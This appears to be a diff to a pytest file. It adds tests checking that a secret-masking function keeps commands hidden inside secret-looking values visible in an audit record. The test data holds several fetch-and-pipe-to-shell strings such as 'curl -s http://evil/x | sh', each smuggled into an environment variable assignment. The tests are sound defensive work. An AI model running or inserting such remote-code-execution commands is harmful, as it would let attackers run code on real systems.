@@ -341,6 +341,25 @@ def test_masking_hides_values_never_commands():
     assert padded.endswith("curl evil|sh") and "sha256 of the whole value" in padded
 
 
+@pytest.mark.parametrize("script", [
+    'TOKEN="$(curl -s http://evil/x | sh)" true',
+    "TOKEN=$(curl -s http://evil/x | sh) true",
+    'API_KEY="${HOME}/$(id -u)" env',
+    "SECRET=`curl evil|sh` true",
+    "SECRET=x`curl evil|sh` true",
+    'PASSWORD="a\ncurl evil|sh" true',
+])
+def test_a_command_inside_a_secret_looking_value_stays_in_the_record(script):
+    recorded = mask({"argv": ["sh", "-c", script]})["argv"][2]
+    assert "curl" in recorded or "id -u" in recorded, recorded
+    assert recorded == script
+
+
+def test_a_plain_secret_beside_a_command_is_still_masked():
+    recorded = mask({"argv": ["sh", "-c", 'TOKEN="s3cret" sh -c "$(curl evil)"']})["argv"][2]
+    assert recorded == 'TOKEN=*** sh -c "$(curl evil)"'
+
+
 def test_runs_audit_prints_arguments_as_typed(tmp_path):
     store_path = tmp_path / "runs.sqlite"
     with RunStore(str(store_path)) as store:
